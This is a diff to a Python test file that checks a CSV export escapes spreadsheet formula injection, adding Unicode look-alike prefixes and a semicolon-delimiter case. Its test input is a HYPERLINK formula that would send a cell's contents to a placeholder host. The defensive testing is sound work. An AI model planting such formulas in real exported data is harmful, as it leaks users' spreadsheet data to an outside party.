@@ -84,13 +84,21 @@ def test_a_day_ends_at_midnight_of_the_person() -> None:
     }
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " ="])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0=", "\u200b=", "\uff1d"])
 def test_a_spreadsheet_finds_no_formula(start: str) -> None:
     evil = f'{start}HYPERLINK("http://x/?"&A1)'
     written = as_csv([entry(prompt=evil, model=evil, ticket=evil, cost=Cost(usd=0.1))])
     row = next(csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline="")))
     assert [row[name] for name in ("prompt", "model", "provider_id")] == [f"'{evil}"] * 3
     assert float(row["usd"]) == 0.1
+
+
+@pytest.mark.parametrize("mark", [";", "\n", '; "', ";\t"])
+def test_nor_where_cells_are_separated_by_semicolons(mark: str) -> None:
+    written = as_csv([entry(prompt=f"a tune{mark}=1+1")]).decode("utf-8-sig")
+    # What some countries' spreadsheets make of it: a quotation mark inside a cell is none to them.
+    cells = [cell.strip(' "\t\r') for line in written.split("\n") for cell in line.split(";")]
+    assert not [cell for cell in cells if cell.startswith("=")]
 
 
 def test_the_table_comes_back_as_it_was() -> None:
